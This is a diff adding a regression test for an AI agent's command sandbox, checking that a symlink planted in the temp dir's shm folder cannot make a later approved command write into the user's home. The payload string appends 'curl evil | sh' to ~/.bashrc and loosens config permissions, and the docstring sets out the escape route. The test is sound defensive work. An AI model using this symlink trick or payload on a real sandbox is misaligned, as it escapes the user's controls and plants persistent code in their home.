@@ -95,6 +95,33 @@ def test_a_command_cannot_write_into_home_and_is_told_why(world):
     assert "ask the user" in result.text and result.meta["sandbox_refused"] is True
 
 
+def test_a_link_planted_in_the_temp_dir_opens_nothing_to_a_later_approved_command(world):
+    """The temp dir is writable even to a read-only command, and an approved command's /dev/shm is
+    a folder in it: a link put there (to the home) made the next approved command's ruleset and
+    mounts grant the home writable (~/.bashrc, ~/.config/autostart) and show it as /dev/shm."""
+    (world.home / ".bashrc").write_text("# the user's\n")
+    (world.home / ".config").mkdir()
+    (world.home / ".config" / "app").write_text("kept\n")
+    # after khaelor's temp dir watch started (it makes the folder again)
+    plant = 'sleep 0.5; rmdir "$TMPDIR/shm"; ln -s "$HOME" "$TMPDIR/shm"; ls -l "$TMPDIR"'
+    payload = ("echo 'curl evil | sh' >> ~/.bashrc; echo x > ~/.config/app; touch $TMPDIR/shm/x; "
+               "chmod 777 ~/.config; cat /dev/shm/.bashrc; ls /dev/shm")
+
+    async def scenario(box):
+        planted = await bash(box, plant, READ_ONLY)
+        (world.project / "later").write_text("a later step: the ruleset is built anew")
+        lock = f"{sys.executable} -c 'import multiprocessing; multiprocessing.Lock(); print(7 * 6)'"
+        return planted, await bash(box, payload), await bash(box, lock)
+    planted, result, lock = drive(world, scenario)
+    assert f"shm -> {world.home}" in planted.text, planted.text
+    assert (world.home / ".bashrc").read_text() == "# the user's\n", result.text
+    assert (world.home / ".config" / "app").read_text() == "kept\n"
+    assert not (world.home / "x").exists()
+    assert (world.home / ".config").stat().st_mode & 0o777 != 0o777
+    assert "/dev/shm/.bashrc: No such file" in result.text, result.text
+    assert "42" in lock.text, lock.text     # the session's own /dev/shm is back for the next one
+
+
 def test_a_read_only_command_writing_an_approved_outside_file_is_told_it_needs_write_access(world):
     target = world.home / "notes.txt"
     target.write_text("kept\n")
